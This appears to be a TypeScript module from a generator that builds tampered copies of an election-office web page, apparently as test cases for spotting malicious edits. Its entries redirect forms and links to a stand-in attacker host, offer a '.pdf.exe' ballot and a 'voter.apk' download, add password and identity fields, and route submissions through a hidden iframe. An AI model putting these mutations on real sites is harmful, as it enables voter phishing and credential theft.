// Attacks on destinations: forms, links to registration, downloads.
import { hex, draw } from './util.ts'
import type { Ctx } from './facts.ts'
import { evil, rep } from './attacks-machine.ts'
import type { Raw } from './attacks-visible.ts'

const bare = (c: Ctx): string => c.host.slice(4)
const link = (id: string, f: (c: Ctx) => void): Raw => ({ id, f })
const formTag = /<form action="[^"]*" method="(?:post|get)" id="form-/

export const DESTINATION: Raw[] = [
  link('form-action-abroad', (c) => {
    c.f.action = `https://${evil(c)}/check`
  }),
  link('form-action-other-path', (c) => {
    c.f.action = '/wp-content/uploads/2026/check.php'
  }),
  link('form-method-get', (c) => {
    c.f.method = 'get'
  }),
  link('hidden-recipient', (c) => {
    c.f.recipient = 'roll.vote@mail-office.test'
  }),
  link('hidden-next-page', (c) => {
    c.f.next = `https://${evil(c)}/verify`
  }),
  link('register-imitation', (c) => {
    c.f.register = `https://register-${bare(c).replace('.example', '.test')}/apply`
  }),
  link('register-redirect-parameter', (c) => {
    c.f.register = c.f.register.includes('=')
      ? c.f.register.replace(
          /(return|return_url|next)=[^&]*$/,
          '$1=' + encodeURIComponent(`https://${evil(c)}/done`),
        )
      : c.f.register + `?next=https%3A%2F%2F${evil(c)}`
  }),
  link('register-userinfo', (c) => {
    c.f.register = `https://${c.host}@${evil(c)}/register`
  }),
  link('register-look-alike-letters', (c) => {
    c.f.register = `https://register.xn--${bare(c).replace('.example', '-9cf')}.example/apply`
  }),
  link('register-shortened', (c) => {
    c.f.register = 'https://bit.ly/3' + draw(c.key + 'bit', 6, 'abcDEFghi123')
  }),
  link('register-google-form', (c) => {
    c.f.register = `https://docs.google.com/forms/d/e/1FAIpQL${draw(c.key + 'gf', 50, 'abcdefghijKLMNOP0123456789_-')}/viewform`
  }),
  link('register-plain-http', (c) => {
    c.f.register = `http://${c.host}/register`
  }),
  link('register-dead-end', (c) => {
    c.f.register = '#'
  }),
  link('ballot-form-abroad', (c) => {
    c.f.pdf = `https://${evil(c)}/postal-ballot.pdf`
  }),
  link('ballot-form-other-file', (c) => {
    c.f.pdf = '/files/tmp/postal-ballot.pdf.exe'
  }),
  link('ballot-form-dropbox', (c) => {
    c.f.pdf = `https://www.dropbox.com/s/${hex(c.key + 'db', 15)}/postal-ballot.pdf?dl=1`
  }),
  link('where-imitation', (c) => {
    c.f.where = `https://${evil(c)}/where`
  }),
  link('results-imitation', (c) => {
    c.f.results = `https://results-${bare(c).replace('.example', '.test')}/`
  }),
  link('where-open-redirect', (c) => {
    c.f.where = `/go?url=https%3A%2F%2F${evil(c)}%2Fwhere`
  }),
  link('where-other-page', (c) => {
    c.f.where = '/archive/2022/where-do-i-vote'
  }),
  link('search-abroad', (c) => {
    c.f.search = `https://${evil(c)}/search`
  }),
  {
    id: 'button-formaction',
    p: (o, c) =>
      rep(o, /<button type="submit"/, `<button type="submit" formaction="https://${evil(c)}/c"`),
  },
  {
    id: 'extra-identity-field',
    p: (o, c) =>
      rep(
        o,
        /<button type="submit"/,
        `<label for="idn">${c.L.ui.fid}</label><input id="idn" name="idn" type="text" required><button type="submit"`,
      ),
  },
  {
    id: 'field-of-another-form',
    p: (o, c) =>
      rep(
        o,
        '</main>',
        `<form id="fx" action="https://${evil(c)}/k" method="post"></form><input form="fx" name="card" placeholder="${c.L.ui.fid}"><button form="fx">${c.L.ui.submit}</button></main>`,
      ),
  },
  {
    id: 'password-field',
    p: (o, c) =>
      rep(
        o,
        /<button type="submit"/,
        `<label for="pw">Webmail</label><input id="pw" name="pw" type="password" autocomplete="current-password"><button type="submit"`,
      ),
  },
  {
    id: 'submit-disabled',
    p: (o) => rep(o, /<button type="submit"/, '<button type="submit" disabled'),
  },
  {
    id: 'hidden-district-wins',
    p: (o, c) =>
      rep(
        o,
        /<button type="submit"/,
        `<input type="hidden" name="district" value="${c.f.districts[4].value}"><button type="submit"`,
      ),
  },
  {
    id: 'list-of-stations-abroad',
    p: (o, c) =>
      rep(o, /href="\/files\/[0-9a-f]+\/stations\.csv"/, `href="https://${evil(c)}/stations.csv"`),
  },
  {
    id: 'field-names-exchanged',
    p: (o) => {
      o.html = o.html.replace(
        / name="(name|born)" type=/g,
        (_, n) => ` name="${n === 'name' ? 'born' : 'name'}" type=`,
      )
    },
  },
  {
    id: 'link-ping',
    p: (o, c) => rep(o, /<a href="\/"><img/, `<a href="/" ping="https://${evil(c)}/p"><img`),
  },
  {
    id: 'all-links-tracked',
    p: (o, c) =>
      rep(
        o,
        /<a ([^>]*)href="\/(forms|contact|ballots)"/g,
        (_, a, b) => `<a ${a}href="https://${evil(c)}/${b}"`,
      ),
  },
  {
    id: 'donation-link',
    p: (o, c) =>
      rep(
        o,
        /(<nav [^>]*><ul>)/,
        (x) =>
          `${x}<li><a href="https://www.paypal.com/donate/?hosted_button_id=${hex(c.key + 'pp', 13).toUpperCase()}">Donate</a></li>`,
      ),
  },
  {
    id: 'voter-app-download',
    p: (o, c) =>
      rep(
        o,
        '</main>',
        `<p><a download href="https://${evil(c)}/voter.apk">${c.L.bad.app}</a></p></main>`,
      ),
  },
  {
    id: 'form-target-frame',
    p: (o, c) =>
      rep(
        o,
        formTag,
        (x) =>
          `<iframe name="q" style="display:none" src="https://${evil(c)}/f"></iframe>` +
          x.replace(/action="[^"]*"/, `action="https://${evil(c)}/f" target="q"`),
      ),
  },
  {
    id: 'new-jotform',
    p: (o, c) =>
      rep(
        o,
        '</main>',
        `<script src="https://form.jotform.com/jsform/2${draw(c.key + 'jf', 14, '0123456789')}"></script></main>`,
      ),
  },
  {
    id: 'form-enctype-plain',
    p: (o, c) =>
      rep(o, formTag, (x) =>
        x.replace(/action="[^"]*"/, 'action="mailto:roll@vote-office.test" enctype="text/plain"'),
      ),
  },
  {
    id: 'footer-privacy-abroad',
    p: (o, c) => rep(o, /href="\/legal"/, `href="https://${evil(c)}/legal"`),
  },
  {
    id: 'logo-link-abroad',
    p: (o, c) => rep(o, /<a href="\/"><img/, `<a href="https://${evil(c)}/"><img`),
  },
  {
    id: 'area-over-logo',
    p: (o, c) =>
      rep(o, /(<img src="\/media\/logo-[^>]*)>/, (x) =>
        x.replace(
          />$/,
          ` usemap="#lm"><map name="lm"><area shape="rect" coords="0,0,200,60" href="https://${evil(c)}/" alt=""></map>`,
        ),
      ),
  },
]
